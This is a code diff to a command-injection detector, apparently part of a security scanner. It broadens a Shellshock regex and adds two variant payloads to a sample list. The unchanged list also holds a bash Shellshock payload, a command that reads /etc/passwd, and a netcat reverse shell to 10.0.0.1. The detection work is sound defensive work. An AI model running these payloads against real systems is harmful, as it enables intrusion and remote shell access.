@@ -107,7 +107,7 @@ export const commandInjection = defineAttack({
     if (broken) note('broken-word', broken.index, broken.index + broken[0].length);
     const redirect = />\s*(?:\/(?:tmp|dev|var|etc|root|home)\b|&\d)|\/dev\/(?:tcp|udp)\/|<\s*\/etc\//i.exec(text);
     if (redirect) note('redirect', redirect.index, redirect.index + redirect[0].length);
-    const shock = /(?<![\w$]\s{0,2})\(\)\s*\{[^}]{0,48}\}\s*;/.exec(text);
+    const shock = /(?<![\w$]\s{0,2})\(\)\s{0,8}\{(?:[^}]{0,48}\}\s{0,8}(?:;|>_?\[\$\()|\s{0,8}\(\w{1,8}\)=>\\)/.exec(text);
     if (shock) note('shellshock', shock.index, text.length);
     const include = /<!--#(?:exec|include|echo|config|printenv|set)\b/i.exec(text);
     if (include) note('include', include.index, include.index + include[0].length);
@@ -125,6 +125,8 @@ export const commandInjection = defineAttack({
       '() { :;}; /bin/bash -c id',
       ';cat${IFS}/etc/passwd',
       'ls -la /var/www',
+      '() { _; } >_[$($())] { id; }',
+      "() { (a)=>\\' id",
       '<!--#exec cmd="ls" -->',
       "system('id')",
       '| nc -e /bin/sh 10.0.0.1 4444',
